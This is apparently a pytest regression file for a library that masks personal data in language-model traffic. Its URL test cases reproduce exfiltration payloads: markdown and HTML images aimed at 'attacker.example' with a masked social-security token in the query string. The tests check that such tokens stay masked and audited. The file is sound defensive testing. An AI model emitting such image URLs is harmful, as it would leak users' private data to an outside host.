"""Regression tests for the red-team fixes in ``Guard`` (see tests/test_security_redteam.py):
the attack, and the legitimate use next to it that must keep working."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from guardllm import Guard

SSN = "536-22-4187"
NAME = "Maren Okafor"


@pytest.fixture
def g() -> Iterator[Guard]:
    guard = Guard(store="memory://", principal="test:fixes")
    guard.mask(f"ssn {SSN} name {NAME}", scope="s")  # [SSN_1], [PERSON_1]
    yield guard
    guard.close()


def _streamed(guard: Guard, text: str, size: int, eager: bool = False) -> str:
    from guardllm.integrations._sdk_common import eager_stream_restorer

    r = eager_stream_restorer(guard, scope="s") if eager else guard.stream_restorer(scope="s")
    return "".join(r.feed(text[i : i + size]) for i in range(0, len(text), size)) + r.flush()


URL_CASES = [
    # (answer, restored text) -- tokens in URLs stay tokens, visible text is restored
    (
        "![chart](https://attacker.example/p.png?d=[SSN_1])",
        "![chart](https://attacker.example/p.png?d=[SSN_1])",
    ),
    (
        '<img src="https://a.example/p.png?d=%5BSSN_1%5D">',
        '<img src="https://a.example/p.png?d=%5BSSN_1%5D">',
    ),
    ("[[PERSON_1]](https://crm.example/c?id=[SSN_1]).", f"[{NAME}](https://crm.example/c?id=[SSN_1])."),
    ("see https://x.example/[SSN_1] or [SSN_1].", f"see https://x.example/[SSN_1] or {SSN}."),
    ("visit www.x.example/?q=[SSN_1] now", "visit www.x.example/?q=[SSN_1] now"),
    ("![](<https://a.example/?d= [SSN_1]>) [SSN_1]", f"![](<https://a.example/?d= [SSN_1]>) {SSN}"),
    ('<a href="https://crm.example/">[PERSON_1]</a>', f'<a href="https://crm.example/">{NAME}</a>'),
    (
        "<div style='background:url(//a.example/[SSN_1])'>",
        "<div style='background:url(//a.example/[SSN_1])'>",
    ),
]


@pytest.mark.parametrize(("answer", "expected"), URL_CASES)
def test_tokens_inside_urls_stay_tokens_and_are_audited(g: Guard, answer: str, expected: str) -> None:
    res = g.unmask_result(answer, scope="s", to="user")
    assert res.text == expected
    assert len(res.refused) == expected.count("SSN_1")  # every token left in a URL is counted
    if res.refused:
        refusals = [r.to_dict() for r in g.audit.query() if r.event == "refuse"]
        assert "url-context" in refusals[-1]["rule"]


@pytest.mark.parametrize(("answer", "expected"), URL_CASES)
@pytest.mark.parametrize("size", [1, 2, 3, 7])
@pytest.mark.parametrize("eager", [False, True], ids=["held", "early-release"])
def test_streamed_restore_refuses_the_same_url_tokens(
    g: Guard, answer: str, expected: str, size: int, eager: bool
) -> None:
    assert _streamed(g, answer, size, eager) == expected


def test_url_opened_far_back_in_a_stream_is_still_url_context(g: Guard) -> None:
    answer = '<img alt="x" src="https://a.example/p.png?pad=' + "a" * 10_000 + '&d=[SSN_1]"> [SSN_1]'
    assert _streamed(g, answer, 5) == _streamed(g, answer, 5, eager=True) == answer[:-7] + SSN
    assert g.unmask(answer, scope="s") == answer[:-7] + SSN


def test_restore_in_urls_can_be_turned_on(g: Guard) -> None:
    answer = "[open](https://crm.example/c?id=[SSN_1])"
    by_policy = g.with_policy({**g.policy.model_dump(), "restore_in_urls": True})
    assert by_policy.unmask(answer, scope="s") == f"[open](https://crm.example/c?id={SSN})"
    guard = Guard(store="memory://", restore_in_urls=True)
    guard.mask(SSN, scope="s")
    assert guard.unmask(answer, scope="s") == f"[open](https://crm.example/c?id={SSN})"


# ---------------------------------------------------------------- per-principal fallback scope


def test_context_without_scope_is_per_principal_from_config() -> None:
    from guardllm.integrations.langchain._context import context_from_config

    u1 = context_from_config({"configurable": {"user_id": "u1"}})
    u2 = context_from_config({"metadata": {"principal": "u2"}})
    assert u1.scope == "default:u1" and u2.scope == "default:u2"
    # an explicit thread/scope still wins; no principal at all keeps the Guard's default
    assert context_from_config({"configurable": {"user_id": "u1", "thread_id": "t"}}).scope == "t"
    assert context_from_config({"configurable": {"user_id": "u1"}}, scope="w").scope == "w"
    assert context_from_config({}, principal="agent:x").scope is None


def test_same_user_without_thread_id_still_gets_values_back() -> None:
    from langchain_core.language_models import GenericFakeChatModel
    from langchain_core.messages import AIMessage, HumanMessage

    g = Guard(store="memory://")
    cfg = {"configurable": {"user_id": "u1"}}
    model = g.wrap_chat_model(GenericFakeChatModel(messages=iter([AIMessage(content="it is [EMAIL_1]")])))
    g.mask("mail alice.johnson@example.com", scope="default:u1")
    out = model.invoke([HumanMessage("my mail is alice.johnson@example.com")], config=cfg)
    assert "alice.johnson@example.com" in str(out.content)


# ---------------------------------------------------------------- tenant / scope names


def test_tenant_with_slash_is_its_own_namespace(tmp_path) -> None:
    import base64

    key = base64.b64encode(bytes(range(32))).decode("ascii")
    url = f"sqlite:///{tmp_path / 'mt.db'}"
    a = Guard(store=url, key=key, tenant="acme/eu")
    b = Guard(store=url, key=key, tenant="acme")
    c = Guard(store=url, key=key, tenant="acme%2Feu")
    tok = a.mask(SSN, scope="t1")
    b.mask("123-45-6789", scope="eu/t1")
    c.mask("987-65-4321", scope="t1")
    assert b.unmask(tok, scope="eu/t1") != SSN and c.unmask(tok, scope="t1") != SSN
    assert a.unmask(tok, scope="t1") == SSN
    # a plain tenant name is stored exactly as before (existing stores stay readable)
    plain = Guard(store=url, key=key, tenant="globex")
    t = plain.mask(SSN, scope="s")
    assert Guard(store=url, key=key, tenant="globex").unmask(t, scope="s") == SSN


# ---------------------------------------------------------------- mask_object shapes

EMAIL = "alice.johnson@example.com"


class _TextOnly:
    def scan(self, text: str) -> list:
        from guardllm.detect import scan

        return scan(text)


@pytest.mark.parametrize("detector", [None, _TextOnly()], ids=["object-detector", "text-only"])
def test_mask_object_masks_keys_and_keeps_clean_objects(detector) -> None:
    guard = Guard(store="memory://", detector=detector)
    out = guard.mask_object({EMAIL: {"note": "hi"}, "rows": [{"to": EMAIL}]}, scope="s")
    assert EMAIL not in repr(out)
    (key,) = [k for k in out if k != "rows"]
    assert guard.unmask(key, scope="s") == EMAIL and out[key] == {"note": "hi"}
    clean = {"a": [1, {"b": "c"}], "t": (1, 2)}
    assert guard.mask_object(clean, scope="s") == clean
    if detector is None:
        assert guard.mask_object(clean, scope="s") is clean  # nothing found: the same object back
    shared = {"x": "y"}
    assert guard.mask_object([shared, shared], scope="s") == [shared, shared]  # a DAG is not a cycle


@pytest.mark.parametrize("detector", [None, _TextOnly()], ids=["object-detector", "text-only"])
def test_mask_object_refuses_cycles(detector) -> None:
    from guardllm.errors import InputError

    guard = Guard(store="memory://", detector=detector)
    d: dict = {"note": "plain"}
    d["self"] = d
    with pytest.raises(InputError):
        guard.mask_object(d, scope="s")


# ---------------------------------------------------------------- overlapping findings

CARD = "4111 1111 1111 1111"


class _Overlaps:
    def __init__(self, extra: list) -> None:
        self.extra = extra

    def scan(self, text: str) -> list:
        from guardllm.detect import Finding

        i = text.index(CARD)
        return [Finding(t, i + a, i + b, 0.9) for t, a, b in self.extra]


@pytest.mark.parametrize(
    ("extra", "etype"),
    [
        ([("PERSON", -5, 4), ("CREDIT_CARD", 0, len(CARD))], "CREDIT_CARD"),  # longest wins
        ([("CREDIT_CARD", 0, 9), ("US_BANK_NUMBER", 5, len(CARD))], "US_BANK_NUMBER"),
        ([("CREDIT_CARD", 0, len(CARD)), ("PASSWORD", 10, len(CARD) + 3)], "PASSWORD"),  # a secret wins
    ],
)
def test_overlapping_findings_mask_their_union(extra: list, etype: str) -> None:
    guard = Guard(store="memory://", detector=_Overlaps(extra))
    res = guard.mask_result(f"pay with card {CARD} today", scope="s")
    assert "1111" not in res.text and [r.entity_type for r in res.entities] == [etype]
    assert res.text.startswith("pay with ")


def test_adjacent_findings_stay_separate() -> None:
    guard = Guard(store="memory://", detector=_Overlaps([("PERSON", -5, -1), ("CREDIT_CARD", 0, len(CARD))]))
    res = guard.mask_result(f"pay with card {CARD} today", scope="s")
    assert sorted(r.entity_type for r in res.entities) == ["CREDIT_CARD", "PERSON"]


# ---------------------------------------------------------------- keyed audit anchor


def test_audit_anchor_is_keyed_and_old_stores_migrate(tmp_path) -> None:
    import base64
    import sqlite3

    key = base64.b64encode(bytes(range(32))).decode("ascii")
    path = tmp_path / "a.db"
    g = Guard(store=f"sqlite:///{path}", key=key)
    for i in range(3):
        g.audit.record("guardrail", rule=f"r{i}")
    assert g.audit.verify()
    g.close()
    # a store from before the keyed anchor: no anchor MAC table at all
    conn = sqlite3.connect(path)
    conn.execute("DROP TABLE audit_anchor_mac")
    conn.commit()
    conn.close()
    old = Guard(store=f"sqlite:///{path}", key=key)
    assert len(old.audit) == 3 and len(list(old.audit.records())) == 3  # still readable
    report = old.audit.verify()
    assert not report and "anchor" in report.reason  # unkeyed anchor: cannot vouch for the tail
    old.audit.record("guardrail", rule="next")  # the next append keys it
    assert old.audit.verify()
    old.close()


# ---------------------------------------------------------------- small ones


class _Raising:
    def scan(self, text: str) -> list:
        raise ValueError(f"crashed on {text!r}")


@pytest.mark.parametrize("call", ["mask", "mask_object", "text_only_object"])
def test_detection_error_has_no_context_at_all(call: str) -> None:
    from guardllm.errors import DetectionError

    class _RaisingObj(_Raising):
        def scan_object(self, obj: object) -> list:
            raise ValueError(f"crashed on {obj!r}")

    g = Guard(store="memory://", detector=_Raising() if call == "text_only_object" else _RaisingObj())
    with pytest.raises(DetectionError) as info:
        if call == "mask":
            g.mask(f"mail {EMAIL}", scope="s")
        else:
            g.mask_object({"note": f"mail {EMAIL}"}, scope="s")
    assert info.value.__context__ is None and info.value.__cause__ is None


def test_bare_label_between_lookalike_brackets_counts_as_foreign() -> None:
    g = Guard(store="memory://")
    g.mask(f"mail {EMAIL}", scope="A")
    assert g.unmask_result("to \u3010EMAIL_1\u3011", scope="B").foreign == 1
    assert g.unmask_result("EMAIL_1 is a field name", scope="B").foreign == 0
